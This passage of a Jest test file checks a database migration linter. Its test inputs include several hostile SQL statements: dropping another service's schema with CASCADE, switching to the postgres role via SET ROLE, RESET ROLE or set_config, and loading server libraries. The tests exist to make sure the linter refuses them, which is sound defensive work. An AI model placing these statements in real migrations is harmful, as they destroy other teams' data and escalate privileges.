      `${FILE} line 8: [BEDROCK-S3] CREATE RULE rewrites the table's queries into other statements, hidden from whoever reads the table's definition; ${ACKNOWLEDGE_HOW}`,
    ]);
  });
});

describe('BEDROCK-S4 KnownStatementsOnly', () => {
  test.each([
    ['CREATE EXTENSION pgcrypto;', "CREATE EXTENSION (CreateExtensionStmt) is not a statement a service's migration runs: extensions are the platform stack's: list the extension in the environment's `extensions` (PlatformStack installs it)"],
    ['CREATE SCHEMA scratch;', "CREATE SCHEMA (CreateSchemaStmt) is not a statement a service's migration runs: schemas are the platform stack's: PlatformStack creates one per service; put the service's objects in its own schema"],
    ['DROP SCHEMA datahub CASCADE;', "DROP SCHEMA (DropStmt of schema) is not a statement a service's migration runs: schemas are the platform stack's: PlatformStack creates one per service; put the service's objects in its own schema"],
    ["LOAD 'plugin';", "LOAD (LoadStmt) is not a statement a service's migration runs: LOAD puts a shared library into the server process: that is the platform team's, outside migrations"],
    ['CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw;', "CREATE SERVER (CreateForeignServerStmt) is not a statement a service's migration runs: the platform stack (PlatformStack) owns database-wide objects; if a migration really needs it, open an issue"],
    ['CREATE PUBLICATION everything FOR ALL TABLES;', "CREATE PUBLICATION (CreatePublicationStmt) is not a statement a service's migration runs: the platform stack (PlatformStack) owns database-wide objects; if a migration really needs it, open an issue"],
    ['CREATE DATABASE other;', "CREATE DATABASE (CreatedbStmt) is not a statement a service's migration runs: the database is the platform stack's (PlatformStack)"],
    ['COMMIT;', "COMMIT (TransactionStmt) is not a statement a service's migration runs: the runner runs each step of a migration in a transaction of its own (or alone outside one, under `-- +step outside transaction`): remove it"],
    ['CHECKPOINT;', "CHECKPOINT (CheckPointStmt) is not a statement a service's migration runs: checkpoints are the server's and the platform team's: remove it"],
  ])('%s is refused', (sql, message) => {
    expect(judge(sql)).toContain(`${FILE} line 6: [BEDROCK-S4] ${message}`);
  });

  test('what a schema migration does passes', () => {
    const sql = [
      "CREATE TYPE portfolio.fill_kind AS ENUM ('maker', 'taker');",
      "ALTER TYPE portfolio.fill_kind ADD VALUE 'auction';",
      'CREATE SEQUENCE portfolio.fill_numbers;',
      'CREATE TABLE portfolio.fills (id bigint GENERATED ALWAYS AS IDENTITY, kind portfolio.fill_kind, n bigint DEFAULT nextval(\'portfolio.fill_numbers\'));',
      'ALTER SEQUENCE portfolio.fill_numbers OWNED BY portfolio.fills.n;',
      'CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS fills_n_key ON portfolio.fills (n);',
      'ALTER TABLE portfolio.fills RENAME COLUMN n TO number;',
      'SET CONSTRAINTS ALL DEFERRED;',
      'LOCK TABLE portfolio.fills IN SHARE MODE;',
      'TRUNCATE portfolio.fills;',
      'ANALYZE portfolio.fills;',
      'CREATE DOMAIN portfolio.price AS numeric(30, 12) CHECK (VALUE > 0);',
      'CREATE STATISTICS portfolio.fills_stats ON kind, number FROM portfolio.fills;',
    ].join('\n');
    expect(judge(sql, 'DROP TABLE portfolio.fills;\nDROP TYPE portfolio.fill_kind;\nDROP SEQUENCE portfolio.fill_numbers;\nDROP DOMAIN portfolio.price;')).toEqual([]);
  });
});

describe('BEDROCK-S0 and lines', () => {
  test('a statement on the 12th line of the file is reported as line 12', () => {
    const up = ['-- backfill first', '', 'UPDATE portfolio.trades SET fee = 0;', '/* then', '   the role */', 'SELECT 1;', 'RESET ROLE;'].join('\n');
    expect(judge(up).map((f) => f.split(': [')[0])).toEqual([`${FILE} line 12`]);
  });

  test('lines stay right after multi-byte characters (statement locations are byte offsets)', () => {
    const up = ["COMMENT ON TABLE portfolio.trades IS 'Trades — fills, 約定 and 🚀';", "COMMENT ON COLUMN portfolio.trades.fee IS 'Gebühr';", 'DROP TABLE datahub.klines;'].join('\n');
    expect(judge(up)).toEqual([expect.stringMatching(new RegExp(`^${FILE} line 8: \\[BEDROCK-S1\\] DROP TABLE datahub\\.klines `))]);
  });

  test("a statement that does not parse is one finding with PostgreSQL's message and its line, in up or down", () => {
    expect(judge("COMMENT ON TABLE portfolio.trades IS '🚀 fills';\nSELEC 1;")).toEqual([
      `${FILE} line 7: [BEDROCK-S0] the up SQL does not parse: syntax error at or near "SELEC" (PostgreSQL's own parser): fix the statement`,
    ]);
    expect(judge('SELECT 1;', 'DROP TABLE portfolio.trades\nDROP TABLE portfolio.positions;')).toEqual([
      `${FILE} line 10: [BEDROCK-S0] the down SQL does not parse: syntax error at or near "DROP" (PostgreSQL's own parser): fix the statement`,
    ]);
  });

  test('down statements are judged too, at their own lines', () => {
    expect(judge('SELECT 1;', 'SET ROLE postgres;')).toEqual([expect.stringContaining(`${FILE} line 9: [BEDROCK-S2] SET ROLE changes the role`)]);
  });

  test('a file is parsed once, however many environments judge it', () => {
    const file = migration('DROP TABLE datahub.klines;\nSELECT 2;', '', '20260101_120001_portfolio_parsed_once');
    const parse = jest.spyOn(pgQuery, 'parseSync');
    try {
      for (let environment = 0; environment < 4; environment++) judgeMigration(file, portfolio);
      expect(parse).toHaveBeenCalledTimes(1); // up; the down is empty
    } finally {
      parse.mockRestore();
    }
  });
});

test("every migration the Bedrock app has passes the statement rules", () => {
  let judged = 0;
  for (const service of bedrockProject.registry.names) {
    const state = migrationDirectoryOf(bedrockProject, service).read();
    expect(state.problems).toEqual([]);
    for (const file of state.migrations) {
      judged += 1;
      expect(judgeMigration(file, statementContext(service, bedrockProject.registry)).map(findingText)).toEqual([]);
    }
  }
  expect(judged).toBeGreaterThanOrEqual(5);
});

test("`generate` judges the migration it would write: a model expression reaching outside the service is refused, nothing written", async () => {
  const project = testProject();
  project.tables.portfolio = (stack) => {
    new Table(stack, 'quotes', {
      columns: { id: bigint().generatedAlwaysAsIdentity(), venue: text().defaultSql("set_config('role', 'postgres', false)") },
      checks: [{ name: 'quotes_venue_known', expression: 'datahub.is_venue(venue)' }],
    });
  };
  const result = await project.cli('generate', 'portfolio', 'add_quotes');
  expect(result.code).toBe(1);
  expect(result.err).toContain('portfolio: the new migration breaks the statement rules; nothing written. Change the model:\n');
  // Named as datahub's once the CLI passes the registry to generate; refused either way.
  expect(result.err).toMatch(/\[BEDROCK-S1\] CREATE TABLE uses function datahub\.is_venue from (service datahub's schema|schema datahub, which is not portfolio's)/);
  expect(result.err).toMatch(/\[BEDROCK-S2\] CREATE TABLE calls set_config\(\)/);
  expect(readdirSync(project.root)).toEqual([]);
});

describe('a hand-edited migration (RESET ROLE, then DROP of another service\'s table)', () => {
  const positions = (extra = {}) => (stack: ServiceStack) => {
    new Table(stack, 'positions', { columns: { id: bigint().generatedAlwaysAsIdentity(), symbol: text().notNull(), ...extra }, primaryKey: ['id'] });
  };

  /** A portfolio migration generated, then edited by hand after `-- +up` and rehashed, as the seed's review step allows. */
  async function handEdited() {
    const project = testProject();
    project.tables.portfolio = positions();
    expect((await project.cli('generate', 'portfolio', 'add_positions')).code).toBe(0);
    const dir = project.migrationsDirectory('portfolio');
    const file = readdirSync(dir).find((f) => f.endsWith('.sql'))!;
    const original = readFileSync(path.join(dir, file), 'utf8');
    writeFileSync(path.join(dir, file), original.replace('-- +up\n', '-- +up\nRESET ROLE;\nDROP TABLE datahub.klines;\n'));
    expect((await project.cli('rehash', 'portfolio')).code).toBe(0);
    const upLine = original.split('\n').indexOf('-- +up') + 1;
    return { project, dir, id: file.replace('.sql', ''), upLine };
  }

  function expectedFindings(id: string, upLine: number): string[] {
    return [
      `portfolio: ${id}.sql line ${upLine + 1}: [BEDROCK-S2] RESET ROLE changes the role the migration runs as (RESET returns to the deploying user, often a superuser): the runner already runs every statement as portfolio_owner, the owner of portfolio's objects; remove it`,
      `portfolio: ${id}.sql line ${upLine + 2}: [BEDROCK-S1] DROP TABLE datahub.klines touches service datahub's schema; ${OWN_ONLY}: ${LEAVE_DATAHUB}`,
    ];
  }

  test('`check` refuses it, naming the file, the lines, the rules and both services', async () => {
    const { project, id, upLine } = await handEdited();
    const result = await project.cli('check');
    expect(result.code).toBe(8);
    for (const line of expectedFindings(id, upLine)) expect(result.err).toContain(line);
  });

  test('`generate` refuses to build on it and writes nothing', async () => {
    const { project, dir, id, upLine } = await handEdited();
    const before = readdirSync(dir, { recursive: true }).map(String).sort();
    project.tables.portfolio = positions({ venue: text() });
    const result = await project.cli('generate', 'portfolio', 'add_venue');
    expect(result.code).toBe(1);
    // (Without the registry, generate cannot name the owner of schema datahub; it refuses all the same.)
    expect(result.err).toContain(`portfolio: fix the statements of its migrations first; nothing written:\n  - ${expectedFindings(id, upLine)[0]}\n  - portfolio: ${id}.sql line ${upLine + 2}: [BEDROCK-S1] DROP TABLE datahub.klines touches `);
    expect(readdirSync(dir, { recursive: true }).map(String).sort()).toEqual(before);
    // Given the registry, generate names both services, like check and synth.
    const directory = migrationDirectoryOf(project, 'portfolio');
    expect(() => generateMigration({ directory, model: modelOf(project, 'portfolio'), description: 'add_venue', registry: project.registry })).toThrow(expectedFindings(id, upLine)[1]);
    expect(readdirSync(dir, { recursive: true }).map(String).sort()).toEqual(before);
  });

  test('the synth of the service stack fails with the same findings', async () => {
    const { project, id, upLine } = await handEdited();
    const app = Testing.app();
    const stack = new ServiceStack(app, {
      service: 'portfolio',
      environment: testEnvironment({ services: ['datahub', 'portfolio'] }),
      registry: testRegistry,
      migrationsDirectory: project.migrationsDirectory('portfolio'),
    });
    positions()(stack);
    expect(() => Testing.synth(stack, true)).toThrow(`[test-portfolio] ${expectedFindings(id, upLine)[1]}`);
  });
});
